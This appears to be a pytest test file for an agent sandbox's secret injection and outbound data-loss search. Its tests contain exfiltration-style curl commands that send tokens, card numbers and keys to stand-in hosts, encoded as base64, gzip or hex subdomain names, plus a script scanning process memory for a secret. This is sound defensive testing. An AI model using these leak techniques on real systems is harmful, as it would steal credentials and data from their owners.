"""Secrets that a run uses and never sees, and the search of what leaves, with real clients on a small internet."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.e2e.program import PROGRAM
from tests.egress.aws_host import KEY_ID, SECRET, TOKEN, problem
from tests.egress.internet import ADDRESSES, Visit, run_on_internet

pytestmark = pytest.mark.once

WEB, OTHER = (ADDRESSES[name] for name in ("web.test", "other.test"))
VALUE = "tok-4f9a8b7c6d5e4f3a2b1c"
REFUSED = "refused by the sandbox"
Go = Callable[..., Visit]


@pytest.fixture
def go(project: Path, tmp_path: Path) -> Go:
    """Run a line of a shell on the small internet, in the project, with a secret in a variable and in a file outside the project."""
    (tmp_path / "token").write_text(f"{VALUE}\n")

    def visit(line: str, *, name: str = "net") -> Visit:
        env = {key: value for key, value in os.environ.items() if "proxy" not in key.lower()}
        env |= {"AGENT_SANDBOX_STATE": str(tmp_path / "state"), "TOKEN": VALUE, "FILE": str(tmp_path / "token")}
        return run_on_internet(tmp_path / name, ["sh", "-c", line.replace("{sandbox}", shlex.join(PROGRAM))], env=env, cwd=project)

    return visit


def _inside(command: str, *flags: str) -> str:
    return f"{{sandbox}} run --throw-away {' '.join(flags)} -- sh -c {shlex.quote(command)}"


@pytest.mark.parametrize(
    "flag", ["TOKEN@web.test", '"TOKEN=file:$FILE@web.test"', '"TOKEN=command:cat $FILE@web.test"', "TOKEN=env:TOKEN@web.test"]
)
def test_a_secret_reaches_its_host_and_is_not_in_the_answer(go: Go, flag: str) -> None:
    asked = (
        'curl -sS -H "Authorization: Bearer $TOKEN" https://web.test/headers; echo; curl -sS -u "me:$TOKEN" https://web.test/headers; env'
    )
    visit = go(_inside(asked, "--network web.test --secret", flag))
    assert f"Authorization: Bearer {VALUE}".encode() in visit.received[f"{WEB}:443"], visit
    assert VALUE not in visit.stdout + visit.stderr and "Bearer agent-sandbox-secret-token-" in visit.stdout
    assert "TOKEN=agent-sandbox-secret-token-" in visit.stdout


def test_without_a_binding_the_answer_shows_the_secret(go: Go) -> None:
    """The control: the host above really sends back what it gets."""
    visit = go('curl -sS -H "Authorization: Bearer $TOKEN" https://web.test/headers')
    assert VALUE in visit.stdout, visit


@pytest.mark.parametrize(
    "place, asked", [("header:X-Api-Key", '-H "X-Api-Key: $TOKEN"'), ("query:key", '"-Gdkey=$TOKEN"'), ("body:key", '-dkey="$TOKEN"')]
)
def test_a_secret_goes_to_the_place_of_its_binding(go: Go, place: str, asked: str) -> None:
    visit = go(_inside(f"curl -sS {asked} https://web.test/headers", "--network web.test --secret", f"TOKEN@web.test+{place}"))
    assert VALUE.encode() in visit.received[f"{WEB}:443"] and VALUE not in visit.stdout, visit
    elsewhere = 'curl -sS -H "Authorization: Bearer $TOKEN" https://web.test/headers'
    visit = go(_inside(elsewhere, "--network web.test --secret", f"TOKEN@web.test+{place}"), name="elsewhere")
    assert visit.received == {} and REFUSED in visit.stdout, visit


def test_a_placeholder_goes_nowhere_else(go: Go) -> None:
    wrong = {
        "a body to the bound host": 'curl -sS -d "post=$TOKEN" https://web.test/echo',
        "a query to the bound host": 'curl -sS "https://web.test/page?post=$TOKEN"',
        "another field": 'curl -sS -H "X-Note: $TOKEN" https://web.test/page',
        "a part of the credential": 'curl -sS -H "Authorization: Bearer x$TOKEN" https://web.test/page',
        "another host": 'curl -sS -H "Authorization: Bearer $TOKEN" https://other.test/headers',
        "plain HTTP": 'curl -sS -H "Authorization: Bearer $TOKEN" http://web.test/headers',
        "base64": 'curl -sS -d "$(printf %s "$TOKEN" | base64 -w0)" https://web.test/echo',
        "gzip": 'printf %s "$TOKEN" | gzip -c | curl -sS -H "Content-Encoding: gzip" --data-binary @- https://web.test/echo',
        "the name of a host": 'curl -sS "https://$TOKEN.web.test/page"',
    }
    visit = go(
        _inside("; ".join(f"{each}; echo" for each in wrong.values()), "--network 'web.test,*.web.test,other.test' --secret TOKEN@web.test")
    )
    assert visit.received == {}, visit
    assert visit.stdout.count(REFUSED) == len(wrong) - 1, visit  # the name of a host does not resolve, and there is nobody to say so
    assert not [name for name in visit.asked if "secret" in name]


@pytest.mark.both
def test_a_value_is_in_nothing_that_a_run_leaves_behind(go: Go, tmp_path: Path) -> None:
    use = 'curl -sS -H "Authorization: Bearer $TOKEN" https://web.test/headers; curl -sS -d "$TOKEN" https://web.test/echo; env > env.txt'
    run = f"{{sandbox}} run --json --network web.test {{0}} -- sh -c {shlex.quote(use)}; {{sandbox}} log --all --json; {{sandbox}} diff"

    def places(flag: str, name: str) -> list[str]:
        """Return where the value is found: the words of the run, or files in the state directory, whatever they are."""
        visit = go(run.replace("{0}", flag), name=name)
        assert "env.txt" in visit.stdout, visit
        found = subprocess.run(["grep", "-rlF", VALUE, tmp_path / "state"], capture_output=True, text=True, check=False)
        return [*found.stdout.splitlines(), *(["its words"] if VALUE in visit.stdout + visit.stderr else [])]

    assert places("--secret TOKEN@web.test", "bound") == []
    assert len(places("--env TOKEN --no-dlp", "control")) > 1, "what is given to the run is found this way"


LOOK = """
import re, sys
first, rest = b"tok-4f9a", b"8b7c6d5e4f3a2b1c"
found = 0
for line in open("/proc/self/maps"):
    span, rights, *_ = line.split()
    if rights.startswith("r") and "[v" not in line:
        low, high = (int(each, 16) for each in span.split("-"))
        with open("/proc/self/mem", "rb", 0) as memory:
            try:
                memory.seek(low)
                text = memory.read(high - low)
            except (OSError, OverflowError):
                continue
            found += sum(text[each.end() : each.end() + len(rest)] == rest for each in re.finditer(first, text))
print("found" if found else "nothing")
"""


@pytest.mark.both
def test_a_value_is_not_in_the_memory_of_a_run(go: Go, project: Path) -> None:
    (project / "look.py").write_text(LOOK)
    code = "{sandbox} code --throw-away --network web.test {0} look.py"
    assert go(code.replace("{0}", "--secret TOKEN@web.test")).stdout == "nothing\n"
    assert go(code.replace("{0}", "--env TOKEN"), name="control").stdout == "found\n"


def test_what_cannot_be_bound_is_refused_with_the_reason(go: Go, project: Path) -> None:
    (project / "token").write_text(VALUE)
    (project / "link").symlink_to("token")
    wrong = {
        "TOKEN@other.test --network web.test": "--network other.test",
        "TOKEN@web.test": "has none",
        "TOKEN@web.test --network web.test+uninspected": "unread",
        "UNSET@web.test --network web.test": "is not set",
        '"TOKEN=file:$PWD/token@web.test" --network web.test': "lies in the project",
        '"TOKEN=file:$PWD/link@web.test" --network web.test': "lies in the project",
        "TOKEN=file:token@web.test --network web.test": "absolute",
        "TOKEN=command:false@web.test --network web.test": "exited with 1",
        "TOKEN@web.test --env TOKEN --network web.test": "would show the run",
        "TOKEN@web.test --secret TOKEN@web.test --network web.test": "twice",
        f"{VALUE}@web.test --network web.test": "the name of a variable",
        "TOKEN@web.test+cookie --network web.test": "no place",
    }
    line = "; ".join(f"{_inside('echo ran', '--secret', each)}; echo {number} >&2" for number, each in enumerate(wrong))
    visit = go(line)
    said = visit.stderr
    assert "ran" not in visit.stdout and VALUE not in said, visit
    for number, (each, why) in enumerate(wrong.items()):
        part, _, said = said.partition(f"{number}\n")
        assert why in part, (each, part)


DATA = {"card": "4111 1111 1111 1111", "aws-access-key": "AKIAQYLPMN5HFIQR7XYA", "own-secret:MY_API_TOKEN": "quiet-Harbour-77-lantern"}


def _leaks(value: str) -> str:
    hexed = value.encode().hex()
    lines = (
        f"curl -sS -d 'note={value}' https://web.test/echo",
        f"curl -sS 'https://web.test/page?note={value.replace(' ', '%20')}'",
        f"curl -sS -H 'X-Note: {value}' https://web.test/page",
        f"curl -sS -d 'note={value}' http://web.test/echo",
        f"printf %s '{value}' | base64 -w0 | curl -sS --data-binary @- https://web.test/echo",
        f"printf %s '{value}' | gzip -c | curl -sS -H 'Content-Encoding: gzip' --data-binary @- https://web.test/echo",
        f"printf %s '{value}' | gzip -c | curl -sS -H 'Transfer-Encoding: chunked' --data-binary @- https://web.test/echo",
        f"curl -sS https://{hexed}.web.test/page",
    )
    return "; ".join((*(f"{line}; echo" for line in lines), "curl -sS https://web.test/page"))


@pytest.mark.parametrize("rule", DATA)
def test_data_that_must_not_leave_does_not(go: Go, rule: str) -> None:
    value = DATA[rule]
    flags = "--json --network 'web.test,*.web.test'"
    visit = go(
        f"export MY_API_TOKEN={DATA['own-secret:MY_API_TOKEN']}; {_inside(_leaks(value), flags)}; {{sandbox}} log --category network --json"
    )
    whole = b"".join(visit.received.values())
    assert whole.count(b"HTTP/1.1\r\n") == 1 and whole.startswith(b"GET /page"), visit
    assert set(visit.asked) == {"web.test"}
    result, _ = json.JSONDecoder().raw_decode(visit.stdout)
    assert "hello from web.test" in result["stdout"] and result["stdout"].count(REFUSED) == 7, result["stdout"]
    findings = {finding for flow in result["network"] for finding in flow["findings"]}
    assert findings and all(rule in each for each in findings), findings
    told = visit.stdout[visit.stdout.index('"network"') :]  # the record, and the log
    assert value not in told and value.encode().hex() not in told


@pytest.mark.parametrize("rule", DATA)
def test_without_a_sandbox_or_with_the_search_off_the_same_data_arrives(go: Go, rule: str) -> None:
    """The control: what the test above does not see could have been seen."""
    visit = go(_leaks(DATA[rule]))
    assert b"".join(visit.received.values()).count(b"HTTP/1.1\r\n") == 9, visit
    visit = go(_inside(_leaks(DATA[rule]), "--network 'web.test,*.web.test' --no-dlp"), name="off")
    assert b"".join(visit.received.values()).count(b"HTTP/1.1\r\n") == 9, visit


def test_a_client_signs_with_placeholders_and_aws_gets_a_valid_signature(project: Path, tmp_path: Path) -> None:
    env = {key: value for key, value in os.environ.items() if "proxy" not in key.lower() and not key.startswith("AWS_")}
    env |= {"AGENT_SANDBOX_STATE": str(tmp_path / "state")}
    env |= {"AWS_ACCESS_KEY_ID": KEY_ID, "AWS_SECRET_ACCESS_KEY": SECRET, "AWS_SESSION_TOKEN": TOKEN}
    curl = (
        'curl -sS --aws-sigv4 aws:amz:eu-west-1:execute-api --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" https://{}/headers?a=1; env'
    )
    line = shlex.join(PROGRAM) + " run --throw-away --network web.test,other.test --secret AWS_SECRET_ACCESS_KEY@web.test+aws -- sh -c "
    visit = run_on_internet(tmp_path / "net", ["sh", "-c", line + shlex.quote(curl.format("web.test"))], env=env, cwd=project)
    (request,) = [each + b"\r\n\r\n" for each in visit.received[f"{WEB}:443"].split(b"\r\n\r\n") if each]
    assert problem(request) == "" and TOKEN.encode() in request, visit
    assert problem(request, secret="another") != "", "the control: the host really checks"
    assert not any(each in visit.stdout + visit.stderr for each in (KEY_ID, SECRET, TOKEN))
    assert "AWS_SECRET_ACCESS_KEY=agent-sandbox-secret-" in visit.stdout
    visit = run_on_internet(tmp_path / "other", ["sh", "-c", line + shlex.quote(curl.format("other.test"))], env=env, cwd=project)
    assert visit.received == {} and REFUSED in visit.stdout, visit


def test_a_secret_in_two_requests_does_not_arrive_whole(go: Go) -> None:
    halves = (VALUE[:12], VALUE[12:])
    line = "; ".join(f"curl -sS 'https://web.test/page?part={half}'; echo" for half in halves)
    visit = go(_inside(line, "--network web.test"))
    assert halves[0].encode() in visit.received[f"{WEB}:443"] and halves[1].encode() not in visit.received[f"{WEB}:443"], visit
    assert REFUSED in visit.stdout and "the last piece" in visit.stdout
    visit = go(f"unset TOKEN; {_inside(line, '--network web.test')}", name="control")
    assert halves[1].encode() in visit.received[f"{WEB}:443"], "the control: it is the caller's own secret that is found"
